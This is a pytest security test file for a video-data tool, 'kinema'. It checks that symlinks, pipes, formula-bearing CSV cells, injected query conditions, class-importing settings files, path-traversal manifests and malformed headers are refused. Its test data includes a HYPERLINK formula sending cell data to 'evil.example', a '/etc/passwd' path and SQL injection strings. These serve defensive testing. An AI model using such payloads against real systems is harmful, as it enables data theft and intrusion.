"""Files, folders and requests of strangers: what they hold is read, and nothing else is touched, run or shown."""

import ast
import csv
import errno
import os
import sys

import pytest
from rooms import SOURCE, parsed

from kinema.core import conditions
from kinema.core.errors import DataError, RunError, StorageError, UsageError
from kinema.core.files import csv_cell, open_plain, write_new, write_text
from kinema.core.lock import LOCK, alone
from kinema.data.clips.store_files import _locked
from kinema.data.video.manifest import Manifest, Video, inside_root
from kinema.data.video.scanning import _Journal
from kinema.data.video.summary import write_quarantine
from kinema.searching.lock import writing


@pytest.fixture
def target(tmp_path):
    """A file of the user's, which no link may lead a writer to."""
    file = tmp_path / "precious.txt"
    file.write_bytes(b"precious\n")
    yield file
    assert file.read_bytes() == b"precious\n"


# What kinema writes, where a link lies in its place


@pytest.mark.parametrize("mode", ["ab", "a+b", "r+b", "xb"])
@pytest.mark.parametrize("broken", [False, True])
def test_nothing_is_opened_through_a_link(tmp_path, target, mode, broken):
    link, absent = tmp_path / "link", tmp_path / "absent"
    link.symlink_to(absent if broken else target)
    with pytest.raises(StorageError, match="is a link, and kinema does not write through links"):
        open_plain(link, mode)
    assert not absent.exists()


def test_a_link_that_is_put_there_between_the_look_and_the_opening(tmp_path, target, monkeypatch):
    link = tmp_path / "link"
    link.symlink_to(target)
    looks = iter([False, True])
    monkeypatch.setattr(os.path, "islink", lambda _: next(looks))
    with pytest.raises(StorageError, match="is a link"):
        open_plain(link, "ab")


@pytest.mark.parametrize("mode", ["ab", "a+b"])
def test_pipes_are_no_files_and_do_not_hang(tmp_path, mode):
    os.mkfifo(tmp_path / "pipe")
    with pytest.raises(StorageError, match="not an ordinary file"):
        open_plain(tmp_path / "pipe", mode)


def test_ordinary_files_are_written(tmp_path):
    for mode in ("ab", "a+b", "ab"):
        with open_plain(tmp_path / "file", mode) as file:
            file.write(b"1")
    with open_plain(tmp_path / "file", "r+b") as file:
        file.truncate(2)
    assert (tmp_path / "file").read_bytes() == b"11"
    assert (tmp_path / "file").stat().st_mode & 0o022 == 0
    write_new(tmp_path / "new", lambda file: file.write(b"new"))
    with pytest.raises(FileExistsError):
        write_new(tmp_path / "new", lambda file: file.write(b"other"))
    assert (tmp_path / "new").read_bytes() == b"new"
    with pytest.raises(OSError, match=os.strerror(errno.ENOENT)):
        open_plain(tmp_path / "none" / "file", "ab")


def test_a_lock_that_is_a_link(tmp_path, target):
    (tmp_path / "run").mkdir()
    (tmp_path / "run" / LOCK).symlink_to(target)
    with pytest.raises(StorageError, match="is a link"), alone(tmp_path / "run", "training"):
        raise AssertionError
    (tmp_path / "run" / LOCK).unlink()
    with (
        alone(tmp_path / "run", "training"),
        pytest.raises(RunError, match="is training"),
        alone(tmp_path / "run", "training"),
    ):
        raise AssertionError


def test_the_lock_of_a_table_elsewhere_whose_folder_is_a_link(tmp_path, target, monkeypatch):
    monkeypatch.setattr("tempfile.gettempdir", lambda: str(tmp_path))
    trap = tmp_path / "trap"
    trap.mkdir()
    (tmp_path / f"kinema-{os.getuid()}").symlink_to(trap)
    with pytest.raises(StorageError, match="another user's"), writing("s3://bucket/table", None):
        raise AssertionError
    assert not list(trap.iterdir())
    (tmp_path / f"kinema-{os.getuid()}").unlink()
    with writing("s3://bucket/table", None):
        assert (tmp_path / f"kinema-{os.getuid()}").stat().st_mode & 0o077 == 0


def test_a_journal_of_a_scan_and_the_lock_of_a_store_that_are_links(tmp_path, target):
    link = tmp_path / "link"
    link.symlink_to(target)
    with pytest.raises(StorageError, match="is a link"):
        _Journal(link)
    with pytest.raises(StorageError, match="is a link"), _locked(link):
        raise AssertionError


def test_metrics_that_are_a_link(tmp_path, target):
    from kinema.training.loop import PhaseLoop
    from kinema.training.team import Team

    (tmp_path / "metrics.jsonl").symlink_to(target)

    class Half:
        metrics_path = tmp_path / "metrics.jsonl"
        team = Team()

    with pytest.raises(StorageError, match="is a link"):
        PhaseLoop._write(Half(), {"loss": 1.0})


def test_what_is_written_atomically_takes_the_place_of_a_link(tmp_path, target):
    link = tmp_path / "report.md"
    link.symlink_to(target)
    write_text(link, "a report")
    assert not link.is_symlink()
    assert link.read_text() == "a report"


def _writers(tree):
    """Calls that open a file for writing by its name: they would follow a link."""
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        name = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
        texts = [a.value for a in (*node.args, *(k.value for k in node.keywords)) if isinstance(a, ast.Constant)]
        texts = [text for text in texts if isinstance(text, str) and set(text) <= set("rwaxbt+")]
        modes = [text for text in texts if set(text) & set("wax+")]
        of = ast.unparse(node.func)
        if name in ("write_bytes", "touch") or (name == "write_text" and of not in ("write_text", "files.write_text")):
            yield node.lineno, of
        if name in ("open", "GzipFile", "ZipFile") and modes and of not in ("av.open", "archive.open"):
            opened = [ast.unparse(a) for a in node.args[:1]] + [k.arg for k in node.keywords]
            if not ({"file", "fileobj"} & set(opened)):
                yield node.lineno, of
        if of in ("np.save", "numpy.save") and ast.unparse(node.args[0]) != "file":
            yield node.lineno, of


def test_the_search_for_writers_finds_them():
    text = 'p.open("ab")\nopen(p, mode="w")\np.write_text("a")\nnp.save(p / "x", a)\np.open("rb")\nwrite_text(p, "a")'
    assert [line for line, _ in _writers(ast.parse(text))] == [1, 2, 3, 4]


def test_no_module_opens_a_file_for_writing_by_itself():
    found = {}
    for file in sorted(SOURCE.rglob("*.py")):
        if file != SOURCE / "core" / "files.py" and (lines := list(_writers(parsed(file)))):
            found[str(file.relative_to(SOURCE))] = lines
    assert found == {}


# Tables of CSV


@pytest.mark.parametrize("name", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\r=1", "\n=1"])
def test_cells_that_a_spreadsheet_would_run(name):
    assert csv_cell(name) == f"'{name}"


@pytest.mark.parametrize("value", ["a=1", "", "'=1", -1, 0.5, None, "a-b.mp4"])
def test_other_cells_stay_as_they_are(value):
    assert csv_cell(value) == value


def test_a_quarantine_of_a_file_with_a_formula_for_a_name(tmp_path):
    name = '=HYPERLINK("http://evil.example"&A1).mp4'
    broken = Video(name, health="unreadable", reason="@broken", size=1)
    write_quarantine(Manifest(tmp_path, (broken, Video("whole.mp4"))), tmp_path / "broken.csv")
    with (tmp_path / "broken.csv").open(newline="") as file:
        assert list(csv.reader(file))[1:] == [[f"'{name}", "unreadable", "'@broken"]]


def test_pairs_of_copies_with_formulas_for_names(tmp_path):
    from kinema.api.copies import Copies, Copy

    values = dict.fromkeys(Copy.__dataclass_fields__) | {"a": "=1.mp4", "b": "b.mp4", "score": 0.9}
    pair = Copy(**values)
    found = object.__new__(Copies)
    object.__setattr__(found, "pairs", (pair,))
    found.write(tmp_path / "copies.csv")
    assert "'=1.mp4" in (tmp_path / "copies.csv").read_text()


# Conditions


@pytest.mark.parametrize(
    ("where", "said"),
    [
        ("repeat('a', 1000000000) = label", "calls 'repeat'"),
        ("REPEAT ('a', 1000000000) = label", "calls 'REPEAT'"),
        ("lpad(label, 1000000000, 'x') = 'a'", "calls 'lpad'"),
        ('"repeat"(label, 10) = label', "calls '\"repeat\"'"),
        ("`lpad`(label, 10) = label", "calls '`lpad`'"),
        ("lower(repeat(label, 9)) = 'a'", "calls 'repeat'"),
        ("label = 'a' AND (duration > 2 OR space(1000000000) = label)", "calls 'space'"),
        ("label IN ('a', repeat('b', 9))", "calls 'repeat'"),
        ("regexp_like(label, '(a*)*b')", "calls 'regexp_like'"),
        ("label || label = 'aa'", r"holds '\|'"),
        ("label ~ '(a*)*b'", "holds '~'"),
        ("label = E'a'", "goes on with ''a'' where it should end"),
        ("label = $$a$$", r"holds '\$'"),
        ("label = [1]", r"holds '\['"),
        ("label::text = 'a'", "holds ':'"),
        ("cast(label AS int) = 1", "calls 'cast'"),
        ("CASE WHEN true THEN true END", "goes on with 'WHEN'"),
        ("label IN (SELECT label FROM windows)", "has 'label' where '\\)' should be"),
        ("EXISTS (SELECT 1)", "calls 'EXISTS'"),
        ("1 = 1 UNION SELECT 1", "goes on with 'UNION'"),
        ("label LIKE label", "where a text should be"),
        ("label LIKE '" + "%a" * 600 + "'", "a text of 1202 letters"),
        ("duration > " + "9" * 50, "a number of 50 letters"),
        ("NOT " * 60 + "true", "nests more than 50"),
        ("- " * 60 + "1 = 1", "nests more than 50"),
        ("lower(" * 60 + "label" + ")" * 60 + " = 'a'", "nests more than 50"),
        (" OR ".join(["true"] * 500), "joins more than 400"),
        ("1" + " + 1" * 500 + " = 1", "joins more than 400"),
        ("duration IN (" + ",".join("1" * 1) + ",1" * 1001 + ")", "lists more than 1000"),
        ("lower(label, label) = 'a'", "gives lower more than 1"),
        ("contains(label)", "has '\\)' where ',' should be"),
        ("", "has nothing where a column"),
        ("label =", "has nothing where a column"),
        ("label NOT 'a'", "where IN, LIKE or BETWEEN"),
        ("label IS 'a'", "where NULL, TRUE or FALSE"),
        ("label = 'a' -- x", "holds a comment"),
        ("label = 'a' /* x */", "holds a comment"),
        ("label = 'a", "leaves a quotation mark"),
        ("(label = 'a'", "has nothing where '\\)'"),
        ("duration > 1e5e", "goes on with 'e'"),
        ("duration > \u0661", "holds"),
    ],
)
def test_conditions_that_are_refused(where, said):
    with pytest.raises(conditions.GrammarError, match=said):
        conditions.parse(where)


@pytest.mark.parametrize(
    "where",
    [
        "label = 'walk' AND duration > 2",
        "label IN ('a', 'b') AND video LIKE '%1.mp4' OR NOT (label = ')' OR label = ';--')",
        "`label` = 'left' AND duration < 1e3 AND audio = false AND split IS NOT NULL",
        "not lower(label) like '%it''s%' and label not in ('a') and label NOT ILIKE 'x%'",
        "duration BETWEEN 1.5 AND -2 + 3 * .5 AND (width / height) % 2 >= 1.",
        "contains(video, 'repeat(') AND audio AND \"label\" <> 'lpad'",
        "round(duration) != abs(-3) AND gr\u00f6\u00dfe = 'a'",
        "duration IN (" + ",".join("1" for _ in range(1000)) + ")",
    ],
)
def test_conditions_that_are_allowed(where):
    conditions.parse(where)


def test_a_condition_that_would_need_all_memory_is_an_error_of_ours():
    from kinema.searching.filters import condition

    with pytest.raises(UsageError, match=r"--where .* calls 'repeat'; it may call abs") as caught:
        condition(None, "length(repeat('a', 2000000000)) > 1", "window")
    assert "For instance" in caught.value.hint


# Files of settings, and manifests


@pytest.mark.parametrize(
    "text",
    [
        "method:\n  class_path: strange_module.Evil\n",
        "method: strange_module.Evil\n",
        "method.class_path: strange_module.Evil\n",
        "method:\n  head: strange_module.Evil\n",
        '{"optimiser": {"class_path": "strange_module.Evil", "init_args": {}}}',
    ],
)
@pytest.mark.parametrize("option", ["--config {}", "--config={}", "--conf {}"])
def test_a_settings_file_imports_nothing(tmp_path, monkeypatch, capsys, text, option):
    from kinema import cli

    (tmp_path / "strange_module.py").write_text("class Evil: pass\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    (tmp_path / "a.yaml").write_text(text)
    words = option.format(tmp_path / "a.yaml").split()
    with pytest.raises(SystemExit) as caught:
        cli.main(["pretrain", "cpr", str(tmp_path), "--out", str(tmp_path / "run"), "--dry_run", *words])
    assert caught.value.code == 2
    assert "nothing was imported" in capsys.readouterr().err
    assert "strange_module" not in sys.modules


@pytest.mark.parametrize("path", ["../outside.mp4", "a/../../b.mp4", "/etc/passwd", "", "a\0b.mp4"])
@pytest.mark.parametrize("ending", [".json"])
def test_a_manifest_that_leads_out_of_its_root(tmp_path, path, ending):
    file = tmp_path / f"manifest{ending}"
    Manifest(tmp_path, (Video("good.mp4"), Video(path))).write(file)
    with pytest.raises(DataError, match="which does not lie below the data's folder"):
        Manifest.read(file)


@pytest.mark.parametrize("path", ["a.mp4", "a/b..mp4", "..a/%05d.jpg", "=1.mp4", "a b/-c.mp4"])
def test_paths_below_a_root(path):
    assert inside_root(path, "the manifest") == path


# Requests


@pytest.mark.parametrize("token", [None, "a-token-of-some-letters"])
@pytest.mark.parametrize("header", [{"Origin": "http://["}, {"Origin": "http://[::1"}, {"Content-Length": "9" * 5000}])
def test_malformed_headers_are_the_senders_fault(token, header):
    pytest.importorskip("fastapi", reason="the extra kinema[serve] is not installed")
    from starlette.datastructures import Headers

    from kinema.serving.guard import Guard
    from kinema.serving.settings import Settings

    guard = Guard(None, Settings(token=token))
    refused = guard._refusal(Headers({"host": "127.0.0.1", **header}), "/api/archive")
    assert refused.status in (403, 413)
